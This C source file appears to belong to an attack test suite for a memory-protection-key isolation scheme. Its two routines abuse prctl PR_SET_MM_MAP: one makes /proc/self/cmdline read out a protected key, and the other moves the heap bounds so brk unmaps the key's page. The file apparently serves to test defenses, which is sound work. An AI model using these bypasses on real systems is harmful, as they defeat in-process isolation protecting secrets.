// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A13: PR_SET_MM_MAP needs no privilege; it makes the kernel believe that the command line lies in the key,
// and /proc/self/cmdline then reads it without looking at PKRU.
#include "evil.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

// The present layout, as the kernel asks for a complete one.
static int present_map(struct prctl_mm_map *map) {
    char line[1024];
    FILE *stat = fopen("/proc/self/stat", "re");
    unsigned long long value[27] = {0};
    char *field;

    if (stat == NULL)
        return -1;
    field = fgets(line, sizeof line, stat);
    fclose(stat);
    field = field == NULL ? NULL : strrchr(line, ')');
    if (field == NULL)
        return -1;
    // Fields 26 to 28 and 45 to 51 of proc(5); field 3 follows the parenthesis.
    for (int number = 3; number <= 51; number++) {
        unsigned long long number_value = 0;

        field = strchr(field, ' ');
        if (field == NULL)
            return -1;
        field++;
        sscanf(field, "%llu", &number_value);
        if (number >= 26 && number <= 28)
            value[number - 26] = number_value;
        if (number >= 45)
            value[number - 42] = number_value;
    }
    map->start_code = value[0];
    map->end_code = value[1];
    map->start_stack = value[2];
    map->start_data = value[3];
    map->end_data = value[4];
    map->start_brk = value[5];
    map->arg_start = value[6];
    map->arg_end = value[7];
    map->env_start = value[8];
    map->env_end = value[9];
    map->brk = (uintptr_t)sbrk(0);
    map->exe_fd = (uint32_t)-1;
    return 0;
}

int evil_prctl_mm_map(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX] = {0};
    struct prctl_mm_map map;
    ssize_t size;
    int fd;

    memset(&map, 0, sizeof map);
    // Without /proc the numbers stay zero, and the call must be refused all the same.
    present_map(&map);
    map.arg_start = (uintptr_t)target->key;
    map.arg_end = (uintptr_t)target->key + target->key_size;
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0)
        return evil_failed("prctl PR_SET_MM_MAP");
    fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return evil_failed("open of /proc/self/cmdline");
    size = read(fd, copy, sizeof copy);
    close(fd);
    if (size < (ssize_t)target->key_size)
        return evil_failed_because("/proc/self/cmdline gave %zd bytes", size);
    return evil_got(target, copy, "/proc/self/cmdline");
}

// The heap's end moved to the key: brk then unmaps it, and has no address to be checked.
int evil_prctl_mm_brk(const struct evil_target *target) {
    uintptr_t page = (uintptr_t)target->key & ~UINT64_C(4095);
    struct prctl_mm_map map;
    unsigned char present;

    memset(&map, 0, sizeof map);
    present_map(&map);
    map.start_brk = page;
    map.brk = page + 4096;
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0)
        return evil_failed("prctl PR_SET_MM_MAP");
    syscall(SYS_brk, page);
    if (mincore((void *)page, 4096, &present) == 0 || errno != ENOMEM)
        return evil_failed_because("the key's page is still there");
    return evil_succeeded("unmapped the key's page by brk");
}
